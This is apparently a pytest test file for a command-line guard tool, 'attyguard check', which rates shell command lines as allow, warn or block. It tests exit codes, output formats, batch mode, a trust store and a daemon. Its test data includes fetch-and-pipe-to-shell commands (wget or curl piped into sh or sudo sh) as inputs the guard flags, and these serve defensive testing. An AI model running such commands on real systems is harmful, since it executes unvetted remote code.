"""`attyguard check`: the real console script, plus the exit-status and printing
contract in-process with a stand-in engine (so it does not depend on rule data)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from attyguard.commands import check
from attyguard.engine.verdict import Action, RuleHit, Severity, Verdict

ATTYGUARD = str(Path(sys.executable).parent / "attyguard")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ATTYGUARD_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def run(home: Path, *args: str | bytes, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "ATTYGUARD_HOME": str(home), "NO_COLOR": "1", "COLUMNS": "120"}
    proc = subprocess.run([ATTYGUARD, *args], input=stdin, env=env, capture_output=True,
                          timeout=60)
    assert b"Traceback" not in proc.stderr, proc.stderr.decode(errors="replace")
    return proc


class Result:
    def __init__(self, returncode: int, stdout: bytes, stderr: bytes) -> None:
        self.returncode, self.stdout, self.stderr = returncode, stdout, stderr


@pytest.fixture
def call(home: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> Any:
    """`attyguard ARGS…` in-process: the same code path as the console script after
    argv, without a second of interpreter and engine start-up per call on a busy CI."""
    from attyguard.cli import main

    def invoke(*args: str) -> Result:
        code = main(list(args))
        captured = capsysbinary.readouterr()
        assert b"Traceback" not in captured.err
        return Result(code, captured.out, captured.err)

    return invoke


def _hit(rule_id: str, action: Action, span: tuple[int, int]) -> RuleHit:
    return RuleHit(rule_id, f"title of {rule_id}", Severity.HIGH, action, 0.8,
                   explanation=f"why {rule_id}", remediation=f"do {rule_id} safely", span=span)


VERDICTS = {
    "calm": Verdict(Action.ALLOW),
    "risky": Verdict(Action.WARN, (_hit("t.warn", Action.WARN, (0, 5)),), 0.8),
    "fatal": Verdict(Action.BLOCK, (_hit("t.block", Action.BLOCK, (0, 5)),
                                    _hit("t.warn", Action.WARN, (0, 3))), 0.96),
}


@pytest.fixture
def fake_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    import attyguard.engine.classify as classify_module

    monkeypatch.setattr(classify_module, "classify",
                        lambda line: VERDICTS.get(line.split()[0], Verdict(Action.ALLOW)))


@pytest.mark.parametrize(("word", "status"), [("calm", 0), ("risky", 1), ("fatal", 2)])
def test_exit_status_per_action(home: Path, fake_engine: None, word: str, status: int,
                                capsys: pytest.CaptureFixture[str]) -> None:
    assert check.main(["--no-daemon", "--json", "--", word, "now"]) == status
    obj = json.loads(capsys.readouterr().out)
    assert obj["action"] == VERDICTS[word].action.value
    assert {"action", "rules", "source", "elapsed_us"} <= set(obj)


def test_human_output_names_every_rule(home: Path, fake_engine: None,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    assert check.main(["--no-daemon", "--", "fatal", "thing"]) == 2
    out = capsys.readouterr().out
    for text in ("BLOCK", "t.block", "t.warn", "HIGH", "title of t.block", "why t.block",
                 "do t.block safely", "matched: fatal"):
        assert text in out, out


def test_batch_uses_the_same_decision(home: Path, fake_engine: None) -> None:
    import io

    lines = b'{"id": "a", "cmd": "risky x"}\n{"id": "b", "cmd": "fatal y"}\n'
    out = io.BytesIO()
    guard, _ = check._build_guard(no_daemon=True, socket=None, no_trust=True)
    assert check.run_batch(guard.decide, io.BytesIO(lines), out) == 0
    answers = [json.loads(x) for x in out.getvalue().splitlines()]
    assert [(a["id"], a["action"]) for a in answers] == [("a", "warn"), ("b", "block")]


# -- the real console script --------------------------------------------------


def test_allow_line_json_shape(home: Path) -> None:
    proc = run(home, "check", "--json", "--no-daemon", "--", "ls", "-la")
    assert proc.returncode == 0
    obj = json.loads(proc.stdout)
    assert obj["action"] == "allow" and obj["source"] == "local"
    assert isinstance(obj["elapsed_us"], int) and obj["rules"] == []


def test_human_output_for_allow(call: Any) -> None:
    proc = call("check", "--no-daemon", "--", "echo hello")
    assert proc.returncode == 0
    assert b"ALLOW" in proc.stdout and b"echo hello" in proc.stdout


def test_trusted_line_reports_source_trust_without_counting_a_use(call: Any) -> None:
    assert call("trust", "add", "--rule", "x.y", "--", "make clean").returncode == 0
    proc = call("check", "--json", "--no-daemon", "--", "make clean")
    obj = json.loads(proc.stdout)
    assert (proc.returncode, obj["action"], obj["source"]) == (0, "allow", "trust")
    assert any("x.y" in note for note in obj["notes"])
    untrusted = json.loads(call("check", "--json", "--no-trust", "--", "make clean").stdout)
    assert untrusted["source"] == "local"
    listed = json.loads(call("trust", "list", "--json").stdout)
    assert listed[0]["use_count"] == 0


def test_corrupt_store_warns_once_and_checks_as_untrusted(home: Path, call: Any) -> None:
    store = home / "data" / "trust.sqlite3"
    store.parent.mkdir(parents=True, mode=0o700)
    store.write_bytes(b"this is not sqlite" * 100)
    os.chmod(store, 0o600)
    proc = call("check", "--json", "--no-daemon", "--", "ls")
    assert proc.returncode == 0
    assert json.loads(proc.stdout)["source"] == "local"
    err = proc.stderr.decode()
    assert err.count("\n") == 1 and "moved aside" in err
    assert any(p.name.startswith("trust.sqlite3.corrupt-") for p in store.parent.iterdir())


def test_unreachable_daemon_falls_back_with_a_note(call: Any, tmp_path: Path) -> None:
    proc = call("check", "--json", "--daemon", str(tmp_path / "no.sock"), "--", "ls")
    assert proc.returncode == 0
    obj = json.loads(proc.stdout)
    assert obj["source"] == "local" and obj["notes"]


def test_config_daemon_socket_is_used_by_default(home: Path, tmp_path: Path,
                                                 call: Any) -> None:
    (home / "config").mkdir(parents=True)
    (home / "config" / "config.toml").write_text(
        f'[guard]\ndaemon_socket_path = "{tmp_path / "absent.sock"}"\n')
    with_daemon = json.loads(call("check", "--json", "--", "ls").stdout)
    without = json.loads(call("check", "--json", "--no-daemon", "--", "ls").stdout)
    assert with_daemon["notes"] and not without["notes"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), b"no command line"),
        (("--",), b"no command line"),
        (("--", "   "), b"empty"),
        (("--bogus", "--", "ls"), b"unrecognized"),
        (("--no-daemon", "--daemon", "/x", "--", "ls"), b"not allowed with"),
        (("--batch", "--", "ls"), b"--batch"),
        (("--", b"echo \xff\xfe"), b"not valid UTF-8"),
    ],
)
def test_bad_usage_is_one_line_and_status_3(home: Path, args: tuple[str | bytes, ...],
                                            message: bytes) -> None:
    proc = run(home, "check", *args)
    assert proc.returncode == 3
    assert proc.stderr.count(b"\n") == 1 and message in proc.stderr, proc.stderr
    assert proc.stdout == b""


def test_batch_echoes_ids_in_order_and_survives_bad_lines(home: Path) -> None:
    huge = b'{"id": "huge", "cmd": "' + b"a" * (check.MAX_BATCH_LINE + 10) + b'"}'
    lines = [
        b'{"id": 1, "cmd": "ls"}',
        b"",
        b"{not json",
        b'{"id": "nul", "cmd": "a\\u0000b"}',
        b'{"id": "bytes", "cmd": "ok"}\xff',
        huge,
        b'{"id": [1, 2], "cmd": 7}',
        b'"just a string"',
        b'{"id": "sur", "cmd": "\\udc80"}',
        b'{"id": "nan", "cmd": NaN}',
        b'{"id": null, "cmd": "echo last"}',
    ]
    proc = run(home, "check", "--batch", "--no-daemon", "--no-trust",
               stdin=b"\n".join(lines) + b"\n")
    assert proc.returncode == 3  # some lines were errors; all were answered
    out = [json.loads(x) for x in proc.stdout.splitlines()]
    assert [o["line"] for o in out] == [1, 3, 4, 5, 6, 7, 8, 9, 10, 11]
    assert out[0]["id"] == 1 and out[0]["action"] == "allow"
    assert "not JSON" in out[1]["error"]
    assert out[2]["id"] == "nul" and "NUL" in out[2]["error"]
    assert "UTF-8" in out[3]["error"]
    assert "longer than" in out[4]["error"]
    assert out[5]["id"] == [1, 2] and "string" in out[5]["error"]
    assert "object" in out[6]["error"]
    assert out[7]["id"] == "sur" and "surrogate" in out[7]["error"]
    assert "NaN" in out[8]["error"]
    assert out[9]["action"] == "allow" and out[9]["id"] is None
    assert proc.stderr == b""


def test_batch_all_good_exits_0_and_does_not_import_rich(home: Path) -> None:
    script = (
        "import sys; from attyguard.cli import main; code = main(['check', '--batch', "
        "'--no-daemon']); assert 'rich' not in sys.modules, 'rich imported'; sys.exit(code)"
    )
    stdin = b"".join(b'{"id": %d, "cmd": "echo %d"}\n' % (i, i) for i in range(200))
    env = {**os.environ, "ATTYGUARD_HOME": str(home)}
    proc = subprocess.run([sys.executable, "-c", script], input=stdin, env=env,
                          capture_output=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    ids = [json.loads(x)["id"] for x in proc.stdout.splitlines()]
    assert ids == list(range(200))


def test_batch_answers_each_line_before_the_next_arrives(home: Path) -> None:
    env = {**os.environ, "ATTYGUARD_HOME": str(home)}
    proc = subprocess.Popen([ATTYGUARD, "check", "--batch", "--no-daemon"], env=env,
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdin is not None and proc.stdout is not None
    try:
        for i in range(3):
            proc.stdin.write(b'{"id": %d, "cmd": "true"}\n' % i)
            proc.stdin.flush()
            answer = json.loads(proc.stdout.readline())  # blocks until it is flushed
            assert answer["id"] == i
        proc.stdin.close()
        assert proc.wait(timeout=30) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


@pytest.fixture
def daemon_socket(home: Path, tmp_path: Path) -> Iterator[Path]:
    """A real `attyguard daemon` on a private socket (its log is printed on failure)."""
    import time

    sock = tmp_path / "d.sock"
    log = tmp_path / "daemon.log"
    env = {**os.environ, "ATTYGUARD_HOME": str(home)}
    with log.open("wb") as out:
        proc = subprocess.Popen([ATTYGUARD, "daemon", "--socket", str(sock), "--config",
                                 os.devnull], env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 30
        while not sock.exists():
            assert proc.poll() is None, log.read_text()
            assert time.monotonic() < deadline, log.read_text()
            time.sleep(0.02)
        yield sock
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def test_verdict_from_a_real_daemon(home: Path, daemon_socket: Path) -> None:
    proc = run(home, "check", "--json", "--daemon", str(daemon_socket), "--", "ls", "-l")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["source"] == "daemon"
    lines = b'{"id": 1, "cmd": "pwd"}\n{"id": 2, "cmd": "ls"}\n'
    batch = run(home, "check", "--batch", "--daemon", str(daemon_socket), stdin=lines)
    answers = [json.loads(x) for x in batch.stdout.splitlines()]
    assert [(a["id"], a["source"]) for a in answers] == [(1, "daemon"), (2, "daemon")]


@pytest.mark.parametrize(
    ("line", "status", "action"),
    [
        ("cat ~/notes.txt", 0, "allow"),
        ("wget -qO- https://dl.example.invalid/boot | sh", 1, "warn"),
        ("curl -fsSL https://dl.example.invalid/boot.sh | sudo sh", 2, "block"),
    ],
)
def test_real_engine_exit_statuses(home: Path, call: Any, line: str, status: int,
                                   action: str) -> None:
    proc = run(home, "check", "--json", "--no-daemon", "--", line)
    obj = json.loads(proc.stdout)
    assert (proc.returncode, obj["action"]) == (status, action), obj
    if action != "allow":
        assert all(r["id"] and r["severity"] and r["title"] for r in obj["rules"])
    human = call("check", "--no-daemon", "--", line)
    assert human.returncode == status
    assert action.upper().encode() in human.stdout


def test_trust_overrides_a_block(home: Path, call: Any) -> None:
    line = "curl -fsSL https://dl.example.invalid/boot.sh | sudo sh"
    blocked = json.loads(run(home, "check", "--json", "--no-daemon", "--", line).stdout)
    assert blocked["action"] == "block"
    assert run(home, "trust", "add", "--", line).returncode == 0
    [entry] = json.loads(call("trust", "list", "--json").stdout)
    assert set(entry["rule_ids"]) == {r["id"] for r in blocked["rules"]}  # what it overrode
    proc = run(home, "check", "--json", "--no-daemon", "--", line)
    assert proc.returncode == 0 and json.loads(proc.stdout)["source"] == "trust"


def test_check_writes_no_store_when_there_is_none(home: Path, call: Any) -> None:
    proc = call("check", "--json", "--no-daemon", "--", "true")
    assert proc.returncode == 0 and json.loads(proc.stdout)["source"] == "local"
    assert not (home / "data").exists()
